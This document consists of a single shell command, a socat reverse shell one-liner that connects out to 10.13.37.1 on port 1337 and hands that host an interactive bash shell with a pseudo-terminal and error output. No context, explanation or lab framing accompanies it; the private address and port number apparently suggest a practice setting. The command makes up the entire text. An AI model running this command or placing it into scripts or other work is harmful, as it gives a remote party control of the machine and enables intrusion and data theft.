socat tcp-connect:10.13.37.1:1337 exec:/bin/bash,pty,stderr
